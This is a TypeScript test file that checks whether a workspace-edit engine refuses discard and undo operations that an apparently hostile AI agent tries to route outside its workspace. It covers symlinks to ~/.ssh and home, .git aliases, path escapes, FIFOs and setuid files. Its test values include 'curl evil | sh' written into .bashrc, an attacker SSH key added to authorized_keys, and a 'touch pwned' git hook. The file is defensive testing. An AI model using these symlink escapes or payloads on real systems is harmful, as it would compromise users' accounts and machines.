import { execFileSync } from 'node:child_process'
import { lstat, mkdir, readFile, readdir, readlink, rm, symlink } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import {
  removeWorkspaceFile,
  restoreWorkspaceEntry,
  saveWorkspaceFile,
} from '../../src/main/engine/workspace-edit'
import { appErrorOf, writeFiles } from '../support/files'
import { expectHeld, plantSecrets, type Planted } from './support/hostile'

/**
 * "Discard" and "undo" write and remove files in a workspace the agent controlled (engine/
 * workspace-edit.ts): the agent leaves links, FIFOs, folders and `.git` aliases where the host will
 * write or remove, aiming at the planted home. Every write and removal must be refused or stay on the
 * workspace's own entries.
 */
async function discardCase(planted: Planted): Promise<string> {
  const ws = join(planted.dataDir, 'tasks', 't1', 'workspace')
  await writeFiles(ws, { 'src/a.ts': 'a\n', 'README.md': 'r\n' })
  return ws
}

const restoreFile = (ws: string, path: string, text: string): Promise<void> =>
  restoreWorkspaceEntry(ws, path, { content: Buffer.from(text), mode: '100644' })

/** What `promise` gives, or a failure after `ms`: a FIFO opened for writing would block forever. */
async function within<T>(promise: Promise<T>, ms: number): Promise<T> {
  let timer: NodeJS.Timeout | undefined
  const timeout = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`still running after ${ms} ms: it blocked`)), ms)
  })
  try {
    return await Promise.race([promise, timeout])
  } finally {
    clearTimeout(timer)
  }
}

describe('discard and undo in a hostile workspace', () => {
  it('a parent folder turned into a link to the home: writes and removals through it are refused', async () => {
    const planted = await plantSecrets()
    const ws = await discardCase(planted)
    // The agent replaced src/ with a link to ~/.ssh, and made deep/inner a link to ~.
    await rm(join(ws, 'src'), { recursive: true })
    await symlink(join(planted.outside, '.ssh'), join(ws, 'src'))
    await mkdir(join(ws, 'deep'))
    await symlink(planted.outside, join(ws, 'deep', 'inner'))
    const attempts: Array<() => Promise<void>> = [
      () => restoreFile(ws, 'src/a.ts', 'a\n'),
      () => restoreFile(ws, 'src/id_ed25519', 'attacker key\n'),
      () => restoreFile(ws, 'src/new/dir/authorized_keys', 'ssh-ed25519 AAAA attacker\n'),
      () => restoreFile(ws, 'deep/inner/.bashrc', 'curl evil | sh\n'),
      () => saveWorkspaceFile(ws, 'src/id_ed25519', Buffer.from('x'), { mode: 0o755 }),
      () => removeWorkspaceFile(ws, 'src/id_ed25519'),
      () => removeWorkspaceFile(ws, 'deep/inner/.bashrc'),
      () => restoreWorkspaceEntry(ws, 'deep/inner/.bashrc', null),
    ]
    for (const attempt of attempts) {
      const err = await appErrorOf(attempt())
      expect(err.kind).toBe('invalid_input')
      expect(err.message).toContain('through a symbolic link')
    }
    await expectHeld(planted)
  })

  it('a link at the path: removing it removes the link only, restoring replaces the link only', async () => {
    const planted = await plantSecrets()
    const ws = await discardCase(planted)
    await symlink(planted.hostSecretPath, join(ws, 'key'))
    await symlink(planted.outside, join(ws, 'home'))
    await symlink(join(planted.outside, '.bashrc'), join(ws, 'src', 'b.ts'))
    await removeWorkspaceFile(ws, 'key')
    await restoreWorkspaceEntry(ws, 'home', null)
    await restoreFile(ws, 'src/b.ts', 'b\n')
    expect((await readdir(ws)).sort()).toEqual(['README.md', 'src'])
    expect((await lstat(join(ws, 'src', 'b.ts'))).isFile()).toBe(true)
    expect(await readFile(join(ws, 'src', 'b.ts'), 'utf8')).toBe('b\n')
    await expectHeld(planted)
  })

  it('a .git alias, `..` or an absolute path is refused for writes and removals', async () => {
    const planted = await plantSecrets()
    const ws = await discardCase(planted)
    await mkdir(join(ws, 'GIT~1', 'hooks'), { recursive: true })
    await mkdir(join(ws, '.git', 'hooks'), { recursive: true })
    await writeFiles(ws, { '.git/config': '[core]\n' })
    const escape = '../../../../outside/.bashrc'
    expect(await readFile(join(ws, escape), 'utf8')).toBe('# the user’s own\n')
    const paths = [
      '.git/hooks/pre-commit',
      '.git/config',
      'GIT~1/hooks/post-checkout',
      '.git./hooks/pre-push',
      '.g\u200cit/config',
      'src/.GIT',
      escape,
      planted.hostSecretPath,
    ]
    for (const path of paths) {
      for (const attempt of [
        () =>
          restoreWorkspaceEntry(ws, path, {
            content: Buffer.from('#!/bin/sh\ntouch pwned\n'),
            mode: '100755',
          }),
        () => removeWorkspaceFile(ws, path),
        () => saveWorkspaceFile(ws, path, 'x', { mode: 0o755 }),
      ]) {
        expect((await appErrorOf(attempt())).kind, path).toBe('invalid_input')
      }
    }
    expect(await readdir(join(ws, 'GIT~1', 'hooks'))).toEqual([])
    expect(await readdir(join(ws, '.git', 'hooks'))).toEqual([])
    expect(await readFile(join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n')
    await expectHeld(planted)
  })

  it('a FIFO at the path is refused at once, never opened (no hang)', async () => {
    const planted = await plantSecrets()
    const ws = await discardCase(planted)
    execFileSync('mkfifo', [join(ws, 'src', 'a.ts.fifo')])
    execFileSync('mkfifo', [join(ws, 'pipe')])
    const calls = [
      restoreFile(ws, 'pipe', 'x\n'),
      restoreWorkspaceEntry(ws, 'src/a.ts.fifo', { content: Buffer.from('x'), mode: '100755' }),
      saveWorkspaceFile(ws, 'pipe', Buffer.from('x')),
      removeWorkspaceFile(ws, 'pipe'),
      restoreWorkspaceEntry(ws, 'src/a.ts.fifo', null),
    ]
    for (const call of calls) {
      const err = await within(appErrorOf(call), 5_000)
      expect(err.message).toContain('is not a file')
    }
    expect((await lstat(join(ws, 'pipe'))).isFIFO()).toBe(true)
    expect((await lstat(join(ws, 'src', 'a.ts.fifo'))).isFIFO()).toBe(true)
    await expectHeld(planted)
  })

  it('a folder at the path is refused, its contents left as they are', async () => {
    const planted = await plantSecrets()
    const ws = await discardCase(planted)
    await writeFiles(ws, { 'lib/index.ts': 'i\n' })
    expect((await appErrorOf(restoreFile(ws, 'lib', 'x\n'))).message).toContain('is not a file')
    expect((await appErrorOf(removeWorkspaceFile(ws, 'lib'))).message).toContain('is a folder')
    expect((await appErrorOf(restoreWorkspaceEntry(ws, 'src', null))).message).toContain('is a folder')
    expect(await readFile(join(ws, 'lib', 'index.ts'), 'utf8')).toBe('i\n')
    expect(await readFile(join(ws, 'src', 'a.ts'), 'utf8')).toBe('a\n')
    await expectHeld(planted)
  })

  it('a restore never creates a symbolic link, and never a setuid file', async () => {
    const planted = await plantSecrets()
    const ws = await discardCase(planted)
    const link = restoreWorkspaceEntry(ws, 'key', {
      content: Buffer.from(planted.hostSecretPath),
      mode: '120000',
    })
    expect((await appErrorOf(link)).message).toContain('is a symbolic link in the original')
    const setuid = saveWorkspaceFile(ws, 'src/a.ts', '#!/bin/sh\n', { mode: 0o4755 })
    expect((await appErrorOf(setuid)).message).toContain('644 or 755')
    await expect(readlink(join(ws, 'key'))).rejects.toMatchObject({ code: 'ENOENT' })
    expect(((await lstat(join(ws, 'src', 'a.ts'))).mode & 0o7000) === 0).toBe(true)
    await expectHeld(planted)
  })
})
